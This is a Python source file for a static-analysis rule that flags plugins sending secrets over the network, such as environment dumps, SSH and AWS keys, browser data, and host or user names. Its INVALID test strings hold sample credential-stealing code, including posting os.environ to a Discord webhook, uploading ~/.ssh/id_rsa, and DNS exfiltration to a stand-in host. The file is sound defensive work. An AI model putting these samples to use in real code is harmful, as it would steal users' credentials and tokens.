"""Security rule on the syntax tree: sensitive data sent over the network (MB323).

The flow is :mod:`mbcheck.checks.security.taint` (within the module: through
assignments, containers, string building, encoders, the module's own functions
and module-level names); the tables are ``rules/security/exfiltration.json``.
This module decides which flows are findings and says so.

Which single environment variable counts: reading one named variable is how an
honest plugin gets its own token, and sending that token to its API (in a
header, or a body or query parameter) is its job. So one named variable counts
only when its name looks like a credential (the table's ``credential_words``)
and it is not in a request's ``headers``/``auth``/``cookies``, and then only when
it is put in a DNS query or a connection's address, sent to a suspicious
endpoint (``rules/security/endpoints.json``), or harvested with others (the
table's ``harvest`` distinct credential variables in one request). A whole
environment (``os.environ`` itself, ``dict(os.environ)``, ``.copy()``,
``.items()``, iterating it, a variable read by a computed name) always counts.
"""

from __future__ import annotations

from collections.abc import Mapping

from mbcheck.checks.security.classify import short_name
from mbcheck.checks.security.endpoints import find_endpoint
from mbcheck.checks.security.taint import (
    MAX_DEPTH,
    Client,
    Concrete,
    FlowVisitor,
    Function,
    SensitivePath,
    Sink,
    Source,
)
from mbcheck.model import Category, Confidence, Severity
from mbcheck.pyfile.traverse import FileContext, SourceRule
from mbcheck.rules.base import Invalid, Valid

#: how a message names a client's kind
_CLIENT_NOUNS = {
    "http": "an HTTP session", "http-connection": "an HTTP connection", "socket": "a socket",
    "smtp": "an SMTP client", "ftp": "an FTP client", "telnet": "a Telnet client", "dns": "a DNS resolver",
    "websocket": "a WebSocket", "webhook": "a webhook client", "ssh": "an SSH client",
}
#: methods whose first argument is an address: a name in it is looked up in the DNS
_ADDRESS_METHODS = frozenset({"connect", "connect_ex", "resolve", "query", "gethostbyname", "open"})

Env = Mapping[str, frozenset[Concrete]]
Via = tuple[tuple[str, int], ...]


class Exfiltration(FlowVisitor, SourceRule):
    """Sends sensitive data over the network: environment variables, credential files, browser data, the user's or host's name.

    Follows, within the module, what `os.environ` (a dump, a copy, an iteration),
    a file under `~/.ssh`, `~/.aws`, `~/.config/gcloud`, `.netrc`, `.git-credentials`,
    a browser profile (`Login Data`, `Cookies`, `cookies.sqlite`), Discord's
    `Local Storage/leveldb`, a wallet, `/etc/passwd`, a keyring, `getpass.getuser()`,
    `socket.gethostname()`, `platform.node()`/`uname()` or `uuid.getnode()` hold,
    through assignments, f-strings and `%`/`+`/`.format`, `json.dumps`, `base64`,
    containers, comprehensions, `with open(...) as f`, the module's own functions
    (what they return, and their parameters that reach a sink) and module-level
    names, to a network call: an HTTP request's URL, body, parameters or headers
    (`requests`, `httpx`, `aiohttp`, `urllib`, `http.client`), a socket's `send`/
    `connect`, a DNS lookup (`gethostbyname`, `getaddrinfo`, `dns.resolver`, where
    the data is in the looked-up name), `smtplib`, `ftplib`, a webhook client.
    One environment variable by name (the plugin's own API token) counts only
    when its name looks like a credential, it is not in `headers`/`auth`/`cookies`,
    and it goes into a DNS name, to a suspicious endpoint, or with two other
    credentials. A digest of the data (`hashlib`) is not the data.
    Why: this is what credential stealers do, and the data leaves as soon as the
    line runs: the user's tokens, keys and sessions are the attacker's.
    Instead: send only what the user chose to share, to the plugin's own service,
    and say in the plugin's description what is sent; authenticate with the
    plugin's own token in a header; hash an installation id instead of sending
    the host or user name.
    """

    code = "MB323"
    name = "exfiltration"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import os\nimport requests\n\nAPI = 'https://api.example.org/v1'\n\n"
              "def issues(project):\n"
              "    token = os.environ['EXAMPLE_API_TOKEN']\n"
              "    headers = {'Authorization': f'Bearer {token}'}\n"
              "    return requests.get(f'{API}/projects/{project}/issues', headers=headers, timeout=10).json()\n"),
        Valid("import json\nfrom pathlib import Path\nimport requests\n\n"
              "def settings():\n"
              "    return json.loads((Path.home() / '.config' / 'myplugin' / 'settings.json').read_text())\n\n"
              "def sync(url):\n"
              "    requests.post(url, json=settings(), timeout=10)\n"),
        Valid("import logging\nimport socket\n\nlog = logging.getLogger(__name__)\n\n"
              "def started():\n    log.info('started on %s', socket.gethostname())\n"),
        Valid("import hashlib\nimport platform\nimport requests\n\n"
              "def ping(url, version):\n"
              "    install = hashlib.sha256(platform.node().encode()).hexdigest()\n"
              "    agent = f'myplugin/{version} ({platform.system()})'\n"
              "    requests.post(url, json={'id': install}, headers={'User-Agent': agent}, timeout=5)\n"),
        Valid("import os\nimport httpx\n\ndef login(url):\n"
              "    data = {'client_id': os.environ['APP_CLIENT_ID'], 'client_secret': os.environ['APP_CLIENT_SECRET']}\n"
              "    return httpx.post(url, data=data).json()['access_token']\n"),
    )
    INVALID = (
        Invalid("import os\nimport requests\n\nHOOK = 'https://discord.com/api/webhooks/1093/AbCdEf'\n\n"
                "def report():\n    requests.post(HOOK, json={'content': str(dict(os.environ))})\n", line=7),
        Invalid("import os\nimport urllib.request\n\ndef backup():\n"
                "    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n        key = f.read()\n"
                "    urllib.request.urlopen('https://example.org/k', data=key.encode())\n", line=7),
        Invalid("import getpass\nimport socket\n\n"
                "label = f'{getpass.getuser()}.{socket.gethostname()}'.replace('.', '-')\n"
                "socket.gethostbyname(label + '.oast.example')\n", line=5),
        Invalid("import base64\nimport os\nimport requests\n\n"
                "ENV = base64.b64encode(str(os.environ).encode())\n\n"
                "def send(payload):\n    requests.post('https://example.org/c', data=payload)\n\n"
                "def main():\n    send(ENV)\n", line=8),
        Invalid("import json\nimport os\nimport socket\n\n"
                "def collect():\n    return {k: v for k, v in os.environ.items()}\n\n"
                "def beacon(host):\n    s = socket.socket()\n    s.connect((host, 443))\n"
                "    s.sendall(json.dumps(collect()).encode())\n", line=11),
        Invalid("import glob\nimport os\nimport requests\n\n"
                "def grab():\n    files = {}\n"
                "    for path in glob.glob(os.path.expanduser('~/.aws/*')):\n"
                "        files[path] = open(path).read()\n"
                "    requests.post('https://example.org/u', json=files)\n", line=9),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self.init_flow()
        self._reported: set[int] = set()

    def finish(self) -> None:
        seen: set[tuple[str, frozenset[tuple[str, frozenset[Concrete]]]]] = set()
        for function in list(self.functions.values()):
            self._analyse(function, {}, 0, (), seen)

    def _analyse(self, function: Function, env: Env, depth: int, via: Via,
                 seen: set[tuple[str, frozenset[tuple[str, frozenset[Concrete]]]]]) -> None:
        key = (function.name, frozenset(env.items()))
        if key in seen or depth > MAX_DEPTH:
            return
        seen.add(key)
        for sink in function.sinks:
            self._check(sink, env, via)
        for call in function.calls:
            callee = self.callee(call.callee)
            if callee is None:
                continue
            bound = self.bind_call(callee, call.args, env)
            if bound:
                self._analyse(callee, bound, depth + 1, (*via, (call.callee, call.line)), seen)

    def _check(self, sink: Sink, env: Env, via: Via) -> None:
        if sink.node in self._reported:
            return
        data = self.tables
        kind = sink.kind
        described = f"`{short_name(sink.name)}`"
        if sink.method:
            clients = [c.kind for c in self.concrete(sink.receiver, env) if isinstance(c, Client)]
            kind = next((k for k in clients if sink.method in data.client_methods.get(k, ())), "")
            if not kind:
                return
            described = f"`.{sink.method}()` of {_CLIENT_NOUNS.get(kind, 'a network client')}"
            if sink.method in _ADDRESS_METHODS:
                kind = "dns"
        strong: list[tuple[Source, int | str]] = []
        keys: dict[str, tuple[Source, int | str]] = {}
        for argument, value in sink.args:
            for label in self.concrete(value, env):
                if isinstance(label, SensitivePath) and kind == "command":
                    label = Source("file", label.what, label.node, label.line)  # `curl -F f=@~/.aws/credentials`
                if not isinstance(label, Source):
                    continue
                if label.kind == "login" and argument in data.auth_keywords:
                    continue  # `auth=(getpass.getuser(), password)`: the user logs in
                if label.kind != "env-key":
                    strong.append((label, argument))
                elif argument not in data.auth_keywords and data.credential_like(label.key):
                    keys.setdefault(label.key, (label, argument))
        if not strong and keys:
            suspicious = sink.destination is not None and find_endpoint(sink.destination) is not None
            if kind == "dns" or suspicious or len(keys) >= data.harvest:
                strong = list(keys.values())
        if sink.own_host and kind == "dns" and all(s.what == "the host name" for s, _ in strong):
            strong = []  # gethostbyname(gethostname()): the plugin looks up its own address
        if not strong:
            return
        self._reported.add(sink.node)
        strong.sort(key=lambda item: (item[0].line, item[0].what))
        source, argument = strong[0]
        whats = list(dict.fromkeys(s.what for s, _ in strong))
        what = whats[0] if len(whats) == 1 else ", ".join(whats[:-1][:3]) + " and " + whats[-1]
        verb = "listed" if source.kind == "listing" else "read"
        through = "".join(f" through `{short_name(name.rsplit('.', 1)[-1])}()` called at line {line}"
                          for name, line in via[:3])
        message = (
            f"sends {what} ({verb} at line {source.line}) over the network at line {sink.line} "
            f"({described}, {_argument(argument, kind)}){through}: a plugin has no reason to send this. "
            "Remove the upload; send only what the user chose to share, to the plugin's own service, "
            "and say so in the plugin's description"
        )
        related = tuple(dict.fromkeys(self.nodes[s.node] for s, _ in strong))[:5]
        self.report(self.nodes[sink.node], message, related=related)


def _argument(argument: int | str, kind: str) -> str:
    if argument == 0:
        names = {"dns": "the host name it looks up", "http": "the URL", "command": "the command line"}
        return names.get(kind, "argument 1")
    if isinstance(argument, int):
        return f"argument {argument + 1}"
    if argument in ("*", "**"):
        return "unpacked arguments"
    return f"`{argument}=`"


__all__ = ["Exfiltration"]
